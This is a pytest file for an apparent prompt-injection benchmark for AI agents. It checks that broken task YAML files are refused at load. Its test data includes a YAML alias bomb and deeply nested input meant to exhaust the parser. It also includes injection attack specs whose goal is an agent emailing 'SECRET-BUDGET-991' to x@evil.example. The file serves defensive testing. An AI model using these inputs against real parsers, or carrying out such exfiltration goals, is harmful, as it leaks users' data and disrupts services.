"""Everything a task file can get wrong without running is refused at load, as `file: field.path: what`.

Each case writes one broken task file and asserts the exact problem prefix from the Python API,
and that `clawarena tasks list --suite DIR` exits non-zero with the same line and no traceback.
"""

from __future__ import annotations

import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from clawarena.cli import app
from clawarena.services import services
from clawarena.spec import catalog, yamlread
from clawarena.spec.loader import SpecError, load_suite, load_task_file
from clawarena.spec.models import AttackSpec, Scenario, TaskSpec
from clawarena.world.build import WorldBuildError, WorldFactory
from tests.conftest import MINI_TASK

MINI = textwrap.dedent(MINI_TASK)


def sub(old: str, new: str) -> str:
    assert MINI.count(old) == 1, old
    return MINI.replace(old, new)


def deep(opening: str, closing: str, n: int = 20_000) -> bytes:
    return f"id: mini\ntitle: x\ntags: {opening * n}1{closing * n}\n".encode()


BOMB = "tags:\n  - &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"  - &{b} [{', '.join(['*' + a] * 10)}]\n" for a, b in zip("abcdef", "bcdefg")
)
SLACK = """  slack:
    channels: [{name: eng, members: [alice, bob]}]
    messages:
      - {channel: eng, user: %s, text: hi}
"""

# (class of defect, the task file, the exact `field.path: what` the first problem starts with)
CASES = [
    # -- bytes and YAML structure
    ("binary bytes", b"id: mini\x00\n", "<top>: a binary file"),
    ("non-UTF-8 bytes", "id: mini\ntitle: caf\xe9\n".encode("latin-1"), "<top>: not UTF-8 text: byte 0xe9 at offset 19"),
    ("20,000-deep flow sequence", deep("[", "]"), "<top>: invalid YAML (line 3, column 1006): while increasing flow level: exceeded maximum nesting depth"),
    ("20,000-deep flow mapping", deep("{a: ", "}"), "<top>: invalid YAML (line 3, column 4003): while increasing flow level: exceeded maximum nesting depth"),
    ("deep block nesting", ("id: mini\n" + "".join("  " * i + "a:\n" for i in range(80)) + "  " * 80 + "x\n").encode(), "a.a.a: nested deeper than 64 levels"),
    ("recursive alias", sub("id: mini\n", "id: mini\ntags: &t [*t]\n"), "tags[0]: a recursive alias"),
    ("alias bomb", sub("id: mini\n", "id: mini\n" + BOMB), "tags[6]: the document expands to more than 2,000,000 values"),
    ("impossible date", sub("id: mini\n", "id: mini\ntags: [2026-02-30]\n"), "<top>: invalid YAML (line 3, column 8): invalid value '2026-02-30': day is out of range for month"),
    ("empty file", b"", "<top>: a task file must be a mapping, found an empty file"),
    ("duplicate YAML key", sub("title: A small", "title: first\ntitle: A small"), "title: duplicate key 'title' (line 4; first at line 3)"),
    ("duplicate nested key", sub('subject: "Lunch?",', 'subject: "Lunch?", subject: "Dinner?",'), "fixtures.gmail.messages[0].subject: duplicate key 'subject'"),
    # -- ids and cross-references
    ("no benign control", sub("  benign: {}\n", ""), "variants: variants must include 'benign', the control"),
    ("duplicate principal id", sub("  - {id: bob, name: Bob Ortiz, email: bob@northwind.example}\n",
                                   "  - {id: bob, name: Bob Ortiz, email: bob@northwind.example}\n  - {id: alice, name: Alice Two, email: a2@x.example}\n"),
     "principals[2].id: duplicate principal id 'alice' (also principals[0])"),
    ("duplicate agent id", sub("  - {id: bob-agent,", "  - {id: alice-agent,"), "agents[1].id: duplicate agent id 'alice-agent' (also agents[0])"),
    ("agent of an unknown principal", sub("principal: alice, instruction", "principal: zed, instruction"), "agents[0].principal: unknown principal 'zed'"),
    ("policy of an unknown principal", sub("principal: alice, approver: bob", "principal: zed, approver: bob"), "policies[0].principal: unknown principal 'zed'"),
    ("policy with an unknown approver", sub("principal: alice, approver: bob", "principal: alice, approver: zed"), "policies[0].approver: unknown approver 'zed'"),
    ("policy tool that matches no tool", sub("tools: [gmail_send_email]}", "tools: [gmail_sendd]}"), "policies[0].tools[0]: 'gmail_sendd' matches no tool; did you mean 'gmail_send_email'?"),
    ("policy tool the principal's agents lack", sub("tools: [gmail_send_email]}", "tools: [slack_*]}"), "policies[0].tools[0]: 'slack_*' matches none of the tools of alice's agents (alice-agent)"),
    ("unknown victim", sub("        channel: email\n", "        channel: email\n        victim: mallory-agent\n"), "variants.privacy.inject[0].victim: unknown agent 'mallory-agent'"),
    ("duplicate attack id", sub("    harm:\n      - {code: budget-leak", "      - {id: lure, channel: email, placement: {message: m1}, canary: CANARY-LURE-2, payload: CANARY-LURE-2, goal: {outcomes: [{check: {kind: message_sent}}], calls: [{tool: gmail_read_email, args: {id: m1}}]}}\n    harm:\n      - {code: budget-leak"),
     "variants.privacy.inject[1].id: duplicate attack id 'lure' (also inject[0])"),
    ("unknown actor in a check", sub("{kind: message_sent, to: carol@outside.example,", "{kind: tool_called, tool: gmail_send_email, actor: alice-bot,"), "utility[0].actor: unknown actor 'alice-bot'"),
    ("canary material missing in a variant", sub("utility:\n", "harm:\n  - {code: lure-out, surface: privacy, check: {kind: canary_absent, material: lure}}\nutility:\n"),
     "harm[0].check.material: no attack material 'lure' in variant(s) benign"),
    # -- tools
    ("agent tool glob matching nothing", sub('tools: ["gmail_*", send_message, request_approval]', 'tools: ["gmial_*", send_message, request_approval]'), "agents[0].tools[0]: 'gmial_*' matches no tool"),
    ("read_skill is not an agent tool", sub("request_approval]}", "request_approval, read_skill]}"), "agents[0].tools[3]: 'read_skill' matches no tool"),
    ("reference to an unknown tool", sub("- {tool: gmail_read_email, args: {id: m1}}", "- {tool: gmail_read_emails, args: {id: m1}}"), "reference.alice-agent[0].tool: unknown tool 'gmail_read_emails'; did you mean 'gmail_read_email'?"),
    ("reference to a tool the agent lacks", sub("- {tool: gmail_read_email, args: {id: m1}}", "- {tool: grant_approval, args: {request_id: apr-1}}"), "reference.alice-agent[0].tool: 'grant_approval' is not among the tools of alice-agent"),
    ("reference with a bad argument", sub("- {tool: gmail_read_email, args: {id: m1}}", "- {tool: gmail_read_email, args: {id: m1, format: full}}"), "reference.alice-agent[0].args.format: unknown field"),
    ("reference missing an argument", sub("- {tool: gmail_read_email, args: {id: m1}}", "- {tool: gmail_read_email, args: {}}"), "reference.alice-agent[0].args.id: required field is missing"),
    ("reference setting a wire-only argument", sub("- {tool: gmail_read_email, args: {id: m1}}", "- {tool: gmail_labels_get, args: {id: Label_1, user_id: me}}"), "reference.alice-agent[0].args.user_id: not an argument agents may set (wire-only)"),
    ("attack goal with an unknown tool", sub("- {tool: gmail_send_email, args: {to: [x@evil.example]", "- {tool: gmail_forward, args: {to: [x@evil.example]"), "variants.privacy.inject[0].goal.calls[0].tool: unknown tool 'gmail_forward'"),
    ("attack goal no agent can make", sub("- {tool: gmail_send_email, args: {to: [x@evil.example], subject: b, body: \"SECRET-BUDGET-991\"}}", "- {tool: slack_chat_post_message, args: {channel: '#x', text: hi}}"),
     "variants.privacy.inject[0].goal.calls[0].tool: 'slack_chat_post_message' is not among the tools of any agent"),
    ("attack goal with bad arguments", sub("args: {to: [x@evil.example], subject: b,", "args: {to: x@evil.example, subject: [b],"), "variants.privacy.inject[0].goal.calls[0].args.subject: Input should be a valid string"),
    # -- checks: tables, fields, tools, Python checks
    ("unknown table", sub("{kind: message_sent, to: carol@outside.example,", "{kind: record_exists, table: gmail_mesages,"), "utility[0].table: unknown table 'gmail_mesages'; did you mean 'gmail_messages'?"),
    ("unknown field in where", sub("{kind: message_sent, to: carol@outside.example,", "{kind: count_in_range, table: gmail_messages, where: {subjet: x}, min: 1,"), "utility[0].where.subjet: table 'gmail_messages' has no field 'subjet'; did you mean 'subject'?"),
    ("unknown field of field_equals", sub("{kind: message_sent, to: carol@outside.example,", "{kind: field_equals, table: gmail_messages, key: m1, field: bdy, value: x,"), "utility[0].field: table 'gmail_messages' has no field 'bdy'"),
    ("unknown field in a harm check's allow list", sub("check: {kind: canary_absent, text: SECRET-BUDGET-991, scope: external}}", "check: {kind: no_collateral, allow: [{table: gmail_messages, where: {lable_ids: x}}]}}"),
     "variants.privacy.harm[0].check.allow[0].where.lable_ids: table 'gmail_messages' has no field 'lable_ids'"),
    ("tool check matching no tool", sub("{kind: message_sent, to: carol@outside.example,", "{kind: tool_called, tool: gmail_zz*,"), "utility[0].tool: 'gmail_zz*' matches no tool"),
    ("tool check on an argument no tool takes", sub("{kind: message_sent, to: carol@outside.example,", "{kind: tool_not_called, tool: gmail_send_*, args: {recipient: x},"), "utility[0].args.recipient: no tool matching this check takes an argument 'recipient'"),
    ("ordering on an unknown tool", sub("{kind: message_sent, to: carol@outside.example,", "{kind: ordering, first: {tool: gmail_read_email}, then: {tool: gmail_sendmail},"), "utility[0].then.tool: 'gmail_sendmail' matches no tool"),
    ("unregistered Python check", sub("{kind: message_sent, to: carol@outside.example,", "{kind: python, name: no_such_check,"), "utility[0].name: no Python check registered as 'no_such_check' (registered: deliveries_within_org"),
    # -- fixtures: owners that are not principals, in every service
    ("gmail owner not a principal", sub("- {id: m3, owner: bob,", "- {id: m3, owner: bobby,"), "fixtures.gmail.messages[2].owner: unknown principal 'bobby' (expected a principal id; principals: alice, bob)"),
    ("gmail label owner not a principal", sub("- {id: Label_1, owner: alice,", "- {id: Label_1, owner: carol,"), "fixtures.gmail.labels[0].owner: unknown principal 'carol'"),
    ("calendar not a principal's", sub("fixtures:\n", "fixtures:\n  calendar:\n    events: [{calendar: zed, summary: x, start: '2026-03-03T10:00:00Z', end: '2026-03-03T11:00:00Z'}]\n"),
     "fixtures.calendar.events[0].calendar: unknown principal 'zed' (expected a principal id or an address or one of the ids at calendars.id"),
    ("drive owner not a principal", sub("fixtures:\n", "fixtures:\n  drive:\n    files: [{name: notes.txt, owner: zed}]\n"), "fixtures.drive.files[0].owner: unknown principal 'zed' (expected a principal id or an address"),
    ("docs owner not a principal", sub("fixtures:\n", "fixtures:\n  docs:\n    documents: [{title: Memo, owner: zed}]\n"), "fixtures.docs.documents[0].owner: unknown principal 'zed'"),
    ("slack user not a principal nor declared", sub("fixtures:\n", "fixtures:\n" + SLACK % "zed"), "fixtures.slack.messages[0].user: unknown principal 'zed'"),
    ("variant fixture owner not a principal", sub("  privacy:\n    inject:", "  privacy:\n    fixtures: {gmail: {messages: [{owner: zed, from: a@b.example, subject: s}]}}\n    inject:"),
     "variants.privacy.fixtures.gmail.messages[0].owner: unknown principal 'zed'"),
    ("unparseable world.now", sub("id: mini\n", "id: mini\nworld: {now: next tuesday}\n"), "world.now: cannot parse 'next tuesday' as a time"),
    # -- attack channels and typed placements
    ("sms is not a channel", sub("channel: email", "channel: sms"), "variants.privacy.inject[0].channel: unknown channel 'sms' (served: calendar_event, clinical_"),
    ("a peer message's placement is typed", sub("channel: email", "channel: peer_message"), "variants.privacy.inject[0].placement.message: unknown field"),
    ("unknown placement field", sub("placement: {message: m1, mode: append}", "placement: {message: m1, colour: red}"), "variants.privacy.inject[0].placement.colour: unknown field"),
    ("bad placement value", sub("placement: {message: m1, mode: append}", "placement: {message: m1, mode: prepend}"), "variants.privacy.inject[0].placement.mode: unknown mode 'prepend'"),
    ("placement missing a field", sub("placement: {message: m1, mode: append}", "placement: {mailbox: alice, subject: hi}"), "variants.privacy.inject[0].placement.from: required field is missing"),
    ("placement mailbox not a principal", sub("placement: {message: m1, mode: append}", "placement: {mailbox: zed, from: m@evil.example}"), "variants.privacy.inject[0].placement.mailbox: unknown principal 'zed'"),
    ("placement time unparseable", sub("placement: {message: m1, mode: append}", "placement: {mailbox: alice, from: m@evil.example, at: soon}"), "variants.privacy.inject[0].placement.at: cannot parse 'soon' as a time"),
    ("slack placement by an unknown user", sub("fixtures:\n", "fixtures:\n" + SLACK % "bob").replace("channel: email\n        placement: {message: m1, mode: append}", "channel: slack_message\n        placement: {channel: eng, user: mallory}"),
     "variants.privacy.inject[0].placement.user: unknown principal 'mallory'"),
]


def write(folder: Path, content: str | bytes) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "task.yaml"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


def test_the_mini_task_itself_loads(tmp_path):
    assert load_task_file(write(tmp_path, MINI)).id == "mini"


@pytest.mark.parametrize("content, expected", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_each_defect_is_refused_at_load_with_file_and_field(tmp_path, content, expected):
    path = write(tmp_path / "suite", content)
    with pytest.raises(SpecError) as info:
        load_task_file(path)
    line = f"{path}: {expected}"
    assert any(p.startswith(line) for p in info.value.problems), info.value.problems
    result = CliRunner().invoke(app, ["tasks", "list", "--suite", str(tmp_path / "suite")])
    assert result.exit_code == 2, result.output
    assert line in result.output and "Traceback" not in result.output
    assert isinstance(result.exception, SystemExit)


def test_problems_carry_the_yaml_line(tmp_path):
    path = write(tmp_path, sub("title: A small", "titel: typo\ntitle: A small"))
    with pytest.raises(SpecError) as info:
        load_task_file(path)
    assert info.value.problems == [f"{path}: titel: unknown field (line 3)"]


def test_every_problem_of_a_file_is_listed(tmp_path):
    text = sub("principal: alice, approver: bob", "principal: zed, approver: yan").replace("- {id: m3, owner: bob,", "- {id: m3, owner: bobby,")
    with pytest.raises(SpecError) as info:
        load_task_file(write(tmp_path, text))
    assert len(info.value.problems) == 3


def test_the_pure_python_yaml_loader_refuses_the_same_input(tmp_path, monkeypatch):
    monkeypatch.setattr(yamlread, "_Loader", yamlread.loader_class(yaml.SafeLoader))
    for content, expected in ((deep("[", "]"), "<top>: invalid YAML: nested too deeply to parse"),
                              (sub("title: A small", "title: first\ntitle: A small"), "title: duplicate key 'title' (line 4; first at line 3)")):
        path = write(tmp_path, content)
        with pytest.raises(SpecError) as info:
            load_task_file(path)
        assert info.value.problems[0].startswith(f"{path}: {expected}")


def test_a_real_cli_process_prints_one_line_for_deep_nesting(tmp_path):
    write(tmp_path, deep("{a: ", "}"))
    out = subprocess.run([sys.executable, "-m", "clawarena.cli", "tasks", "list", "--suite", str(tmp_path)], capture_output=True, text=True, timeout=120)
    assert out.returncode == 2
    assert "exceeded maximum nesting depth" in out.stderr and "Traceback" not in out.stderr


def test_both_bundled_suites_load_through_the_cli():
    for suite in ("workspace", "email"):
        assert load_suite(suite)
        result = CliRunner().invoke(app, ["tasks", "list", "--suite", suite])
        assert result.exit_code == 0, result.output


# ---- the catalog ------------------------------------------------------------------------------
def test_accepted_channels_are_exactly_those_services_serve():
    served = {c for s in services() for c in s.channels}
    assert set(catalog.channels()) == served and "peer_message" in served  # the network service serves it, with a typed placement


def test_the_catalog_knows_gateway_tools_and_python_checks():
    tools = catalog.tools()
    assert {n for n, e in tools.items() if e.owner == "gateway"} == {
        "send_message", "list_messages", "read_attachment", "request_approval", "decide_approval", "grant_approval", "list_approvals", "read_skill",
    }
    assert not tools["read_skill"].selectable
    assert "deliveries_within_org" in catalog.python_checks()


def test_registries_refuse_duplicate_names():
    from clawarena.scoring.checks import register_python_check

    with pytest.raises(ValueError, match="python check 'deliveries_within_org' is registered twice"):
        register_python_check("deliveries_within_org")(lambda ctx, params: None)
    with pytest.raises(ValueError, match="tool 'send_message' is registered twice"):
        catalog.register_tool(catalog.tools()["send_message"].tool, owner="gateway")


def test_missing_entry_points_fail_with_one_line(monkeypatch):
    monkeypatch.setitem(catalog._state, "loaded", False)
    monkeypatch.setattr(catalog.importlib.metadata, "entry_points", lambda group: [])
    # --no-cache: a cached listing needs no plugin (a real uninstall changes the index's key: tests/test_startup.py)
    result = CliRunner().invoke(app, ["tasks", "list", "--suite", "email", "--no-cache"])
    assert result.exit_code == 2
    assert result.output.strip().splitlines() == [
        "error: no clawarena plugins found (entry-point group 'clawarena.plugins' is empty): install the package, e.g. `pip install -e .`"
    ]


def test_spec_does_not_import_services():
    code = "import sys, clawarena.spec.loader; print(sorted(m for m in sys.modules if m.startswith(('clawarena.services', 'clawarena.gateway', 'clawarena.scoring'))))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=True)
    assert out.stdout.strip() == "[]"
    source = "".join(p.read_text() for p in (Path(catalog.__file__).parent).glob("*.py"))
    assert "clawarena.services" not in source and "import_module" not in source


# ---- the world builder hands place() the typed placement -------------------------------------
def test_place_receives_the_channel_placement_model_and_build_refuses_bad_ones(tmp_path):
    from clawarena.services.gmail import EmailIntoMessage, GmailService

    task = load_task_file(write(tmp_path, MINI))
    seen = []

    class Recording(GmailService):
        def place(self, world, attack, placement):
            seen.append(placement)
            return super().place(world, attack, placement)

    plugins = [Recording() if s.name == "gmail" else s for s in services()]
    attack = task.variants["privacy"].inject[0]
    scenario = Scenario(id="mini/privacy", task=task, variant="privacy", attacks=[attack], fixtures=task.fixtures, utility=task.utility)
    WorldFactory(plugins).build(scenario, 0)
    assert isinstance(seen[0], EmailIntoMessage) and seen[0].mode == "append"
    bad = AttackSpec.model_validate({**attack.model_dump(by_alias=True), "placement": {"message": "m1", "mode": "prepend"}})
    with pytest.raises(WorldBuildError, match=r"mini/privacy: inject\[0\]\.placement\.mode: unknown mode 'prepend'"):
        WorldFactory(plugins).build(scenario.model_copy(update={"attacks": [bad]}), 0)


def test_python_constructed_tasks_still_check_references():
    data = yaml.safe_load(MINI)
    data["agents"][0]["principal"] = "zed"
    with pytest.raises(ValueError, match=r"agents\[0\]\.principal: unknown principal 'zed'"):
        TaskSpec.model_validate(data)
